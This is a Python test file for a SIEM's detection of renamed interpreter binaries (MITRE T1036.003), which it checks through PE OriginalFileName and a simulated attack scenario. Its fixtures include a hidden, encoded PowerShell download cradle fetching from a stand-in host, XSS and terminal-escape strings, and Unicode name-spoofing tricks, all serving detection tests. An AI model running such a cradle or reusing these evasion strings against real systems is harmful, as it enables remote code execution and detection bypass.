"""A renamed interpreter must not escape detection (task G1, MITRE ATT&CK T1036.003).

An attacker copies powershell.exe to ``C:\\Users\\Public\\svcupd.exe``: a rule matching
``powershell.exe`` by name no longer sees it, but the file's PE ``OriginalFileName`` still says
``PowerShell.EXE``.  The analytics read a process by what it is (``analytics.lineage.image_name``)
and name the copy in a step of its own (``analytics.renamed_binaries``).  Only a fixed list of
interpreters and living-off-the-land binaries counts: a vendor file whose original name differs
from its name on disk (a versioned updater, a setup stub) is read as before.

Through the real path (simulate -> ingest -> embedded store -> detect) with the simulator's
own scenarios and two more on the last day: Word starting a renamed PowerShell copy that runs an
encoded download cradle, and a vendor's versioned updater (``ctupdate_v2.exe``, original name
``ctupdate.exe``) fetching from its vendor.  Attacker strings are data: they come from the
scenario files.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analytics.checks import cluster_checks
from analytics.explain import Explanation
from analytics.lineage import INTERPRETERS, image_file_name, image_name, lineage_index
from analytics.original_names import WATCHED, original_name, renamed_from
from analytics.renamed_binaries import renamed_copy_check
from graphsiem.model import Entity, Relation
from graphsiem.simulator import DEFAULT_SCENARIOS
from tests.analytics.simulated import simulated_detection

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
COPY = "C:\\Users\\Public\\svcupd.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
CRADLE_DOMAIN = "docs-sync-cdn.example"
VENDOR_DOMAIN = "updates.contoso-tools.example"
VENDOR_IMAGE = "C:\\Program Files\\Contoso\\Tools\\ctupdate_v2.exe"


def _scenario(name: str, kind: str, domain: str, at: str, steps: str) -> str:
    """A last-day fan-out to 6-12 workstations pivoting on ``domain``: the YAML of ``steps``."""
    return (f"name: {name}\nlabel: {name}\nkind: {kind}\n"
            "hosts: {group: workstations, fraction: 0.04, min: 6, max: 12}\n"
            f"pivot: {{type: domain, value: {domain}}}\nactivities:\n"
            f'  - schedule: {{every: once, day: last, at: "{at}", spread_minutes: 20}}\n    steps:\n{steps}')


RENAMED_SCENARIO = _scenario("renamed_interpreter", "attack", CRADLE_DOMAIN, "13:10", f"""\
      - action: process
        parent: explorer
        image: '{WORD}'
        command_line: '"{WORD}" /n "C:\\Users\\{{{{user}}}}\\Downloads\\Q4_Report.docm"'
        indicator: false
      - action: process
        image: '{COPY}'
        copy_of: '{POWERSHELL}'
        command_line: 'svcupd.exe -nop -w hidden -enc {{{{encoded}}}}'
        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('http://{CRADLE_DOMAIN}/q4.png')"
      - {{action: download, url: 'http://{CRADLE_DOMAIN}/q4.png', content: a stage two, size: 84000}}
""")
"""Word starts a renamed PowerShell copy with an encoded download cradle."""
VENDOR_SCENARIO = _scenario("vendor_updater", "benign", VENDOR_DOMAIN, "15:40", f"""\
      - action: process
        parent: schedule
        user: system
        image: '{VENDOR_IMAGE}'
        copy_of: 'C:\\Program Files\\Contoso\\Tools\\ctupdate.exe'
        command_line: '"{VENDOR_IMAGE}" /silent /check'
      - {{action: connect, domain: {VENDOR_DOMAIN}, port: 443}}
""")
"""A vendor's versioned updater (original name ``ctupdate.exe``) checking its vendor."""


def _process(value: str, image: str, original: str | None) -> Entity:
    props = {"image": image, "command_line": value}
    if original is not None:
        props["original_file_name"] = original
    return Entity("process", value.lower(), value, props)


# -- reading a PE original file name ------------------------------------------------------------


@pytest.mark.parametrize(("file_name", "original", "expected"), [
    ("svcupd.exe", "PowerShell.EXE", "powershell.exe"),
    ("svcupd.exe", "PowerShell.EXE.MUI", "powershell.exe"),  # a language resource's name
    ("update.exe", "Cmd.Exe", "cmd.exe"),
    ("p.exe", "psexec.c", "psexec.exe"),  # PsExec's version resource names its source file
    ("x.exe", "pwsh.dll", "pwsh.exe"),
    ("PowerShell.exe", "PowerShell.EXE", None),  # the real one, any case
    ("PsExec64.exe", "psexec.c", None),  # a name the tool ships under
    ("ctupdate_v2.exe", "ctupdate.exe", None),  # a vendor's file: not a watched binary
    ("7zG.exe", "7zg.exe", None),
    ("mysetup_v2.exe", "setup.exe", None),
    ("wardog.exe", "-", None),  # no version resource
    ("wardog.exe", "", None),
    ("wardog.exe", None, None),
])
def test_only_a_watched_binary_under_another_name_is_a_renamed_copy(file_name, original, expected):
    assert renamed_from(file_name, original) == expected


def test_every_interpreter_of_the_lineage_checks_is_watched():
    assert INTERPRETERS <= WATCHED
    assert original_name("C:\\Windows\\System32\\CertUtil.exe") == "certutil.exe"


def test_a_process_is_read_as_what_it_is_and_named_as_it_is_on_disk():
    copy = _process("svcupd.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", COPY, "PowerShell.EXE")
    vendor = _process(f'"{VENDOR_IMAGE}" /silent', VENDOR_IMAGE, "ctupdate.exe")
    assert image_name(copy.value, copy.props) == "powershell.exe"
    assert image_file_name(copy.value, copy.props) == "svcupd.exe"
    assert image_name(vendor.value, vendor.props) == "ctupdate_v2.exe"


def test_word_starting_a_renamed_powershell_is_an_interpreter_pair():
    word = _process(f'"{WORD}" /n invoice.docm', WORD, "WinWord.exe")
    copy = _process("svcupd.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", COPY, "PowerShell.EXE")
    processes = {word.ref: word, copy.ref: copy}
    images = {ref: image_name(e.value, e.props) for ref, e in processes.items()}
    index = lineage_index([Relation(word.ref, "SPAWNED", copy.ref, 1.0, 1.0, 1)], images, {}, n_hosts=300)
    (pair,) = index[copy.ref]
    assert (pair.parent, pair.child) == ("winword.exe", "powershell.exe")
    assert pair.child in INTERPRETERS


def test_the_renamed_copy_step_names_the_copy_the_original_and_keeps_attacker_text_plain():
    copy = _process("svcupd.exe -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA", "C:\\Users\\Public\\svc\u202eexe.dpu\nx", "PowerShell.EXE")
    step = renamed_copy_check([copy], "ws-1")
    assert step is not None and step.feature is None
    assert "is a renamed copy of powershell.exe" in step.check and "T1036.003" in step.check
    assert "\u202e" not in step.check and "\n" not in step.check
    vendor = _process(f'"{VENDOR_IMAGE}" /silent', VENDOR_IMAGE, "ctupdate.exe")
    assert renamed_copy_check([vendor], "ws-1") is None


def test_the_step_is_in_the_checks_of_a_cluster_with_the_copy():
    copy = _process("svcupd.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", COPY, "PowerShell.EXE")
    pivot = Entity("domain", CRADLE_DOMAIN, CRADLE_DOMAIN)
    steps = cluster_checks(Explanation(summary="", features=()), pivot=pivot, entities=[pivot, copy],
                           hosts=["ws-1", "ws-2"], first_seen=0.0, features={})
    assert any("svcupd.exe is a renamed copy of powershell.exe" in s.check for s in steps)


# -- through the real path ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def clusters(tmp_path_factory):
    root: Path = tmp_path_factory.mktemp("renamed")
    extra = []
    for name, text in (("renamed_interpreter", RENAMED_SCENARIO), ("vendor_updater", VENDOR_SCENARIO)):
        path = root / f"{name}.yaml"
        path.write_text(text, encoding="utf-8")
        extra.append(str(path))
    result, _ = simulated_detection(root, hosts=120, days=2, seed=7, density=0.2, scenarios=[*DEFAULT_SCENARIOS, *extra])
    return result.clusters


def _cluster_with(clusters, predicate):
    found = [c for c in clusters if any(predicate(e) for e in c.entities)]
    assert found, [c.pivot.value for c in clusters]
    return found[0]


def test_the_renamed_powershell_gets_the_interpreter_lineage_and_the_renamed_copy_step(clusters):
    cluster = _cluster_with(clusters, lambda e: e.type == "domain" and e.value == CRADLE_DOMAIN)
    assert cluster.features["interpreter_lineage"] >= 1.0
    assert any((p.parent, p.child) == ("winword.exe", "powershell.exe") for p in cluster.explanation.lineage)
    step = next(c for c in cluster.explanation.checks if "is a renamed copy of" in c.check)
    assert "svcupd.exe is a renamed copy of powershell.exe (PE OriginalFileName PowerShell.EXE" in step.check
    assert COPY in step.check


def test_a_vendor_file_with_another_original_name_is_read_as_before(clusters):
    cluster = _cluster_with(clusters, lambda e: e.type == "domain" and e.value == VENDOR_DOMAIN)
    vendor = next(e for e in cluster.entities if e.type == "process" and "ctupdate_v2.exe" in e.value)
    assert vendor.props["original_file_name"] == "ctupdate.exe"  # projected, and yet no renamed copy
    assert image_name(vendor.value, vendor.props) == "ctupdate_v2.exe"
    assert cluster.features["interpreter_lineage"] == 0.0
    assert not any("renamed copy" in c.check for c in cluster.explanation.checks)
    for c in clusters:
        if c is not cluster:
            assert not any("renamed copy" in s.check and "ctupdate" in s.check for s in c.explanation.checks)


# -- spellings, attacker text in the original name, tools named by the step only (red-team T8 f7) --


@pytest.mark.parametrize("original", [
    "PowerShell",  # no extension
    "PowerShell.EXE\x00",  # a C string's terminator kept by the exporter
    "Power\u200bShell.EXE",  # a zero-width space (Unicode format character)
    "\u202ePowerShell.EXE\ufeff",  # a bidi override and a byte-order mark
    "PowerShell.EXE .MUI",
    '"PowerShell.EXE"',
    "\u201cPowerShell.EXE\u201d",
    "PowerShell\uff0eEXE",  # a full-width dot
    "\uff30\uff4f\uff57\uff45\uff52\uff33\uff48\uff45\uff4c\uff4c.exe",  # full-width letters
])
def test_a_respelled_original_name_is_still_read_as_the_binary(original):
    assert renamed_from("svcupd.exe", original) == "powershell.exe"
    assert renamed_from("powershell.exe", original) is None  # the real one, however spelled
    copy = _process("svcupd.exe -nop", COPY, original)
    assert image_name(copy.value, copy.props) == "powershell.exe"
    step = renamed_copy_check([copy], "ws-1")
    assert step is not None and "is a renamed copy of powershell.exe" in step.check


@pytest.mark.parametrize("prefix", [
    "<img src=x onerror=alert(1)>",
    "\x1b[2J\x1b[31mPWNED <script>alert(1)</script>",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
])
def test_an_original_name_with_a_path_quotes_only_the_name_and_says_it_had_a_path(prefix):
    copy = _process("svcupd.exe -nop", COPY, f"{prefix}\\PowerShell.EXE")
    assert image_name(copy.value, copy.props) == "powershell.exe"
    step = renamed_copy_check([copy], "ws-1")
    assert step is not None
    assert "(PE OriginalFileName PowerShell.EXE, written with a path before the name" in step.check
    for attacker in ("<img", "onerror", "<script>", "PWNED", "\x1b", "System32\\WindowsPowerShell"):
        assert attacker not in step.check


@pytest.mark.parametrize(("original", "tool"), [
    ("curl.exe", "curl.exe"), ("msiexec.exe", "msiexec.exe"), ("mimikatz.exe", "mimikatz.exe"),
    ("rclone.exe", "rclone.exe"), ("AdFind.exe", "adfind.exe"), ("mavinject32.exe", "mavinject.exe"),
    ("esentutl.exe", "esentutl.exe"), ("ntdsutil.exe", "ntdsutil.exe"), ("msdt.exe", "msdt.exe"),
])
def test_a_renamed_attacker_tool_is_a_step_but_keeps_its_name_on_disk(original, tool):
    copy = _process("svcupd.exe -x", COPY, original)
    step = renamed_copy_check([copy], "ws-1")
    assert step is not None and f"svcupd.exe is a renamed copy of {tool} (PE OriginalFileName {original}" in step.check
    # read under its name on disk: a renamed curl.exe must not inherit curl.exe's everyday lineage
    # baseline, and msiexec.exe is no interpreter
    assert image_name(copy.value, copy.props) == "svcupd.exe"
    assert tool not in INTERPRETERS


def test_a_tool_under_a_name_it_ships_under_is_no_step():
    shipped = [_process("mavinject.exe 4242 /injectrunning x.dll", "C:\\Windows\\System32\\mavinject.exe", "mavinject32.exe"),
               _process("curl.exe -s https://x", "C:\\Windows\\System32\\curl.exe", "curl.exe"),
               _process("msiexec.exe /i a.msi", "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe")]
    assert renamed_copy_check(shipped, "ws-1") is None
    assert renamed_copy_check([*shipped, _process("svcupd.exe -x", COPY, "mavinject32.exe")], "ws-1") is not None
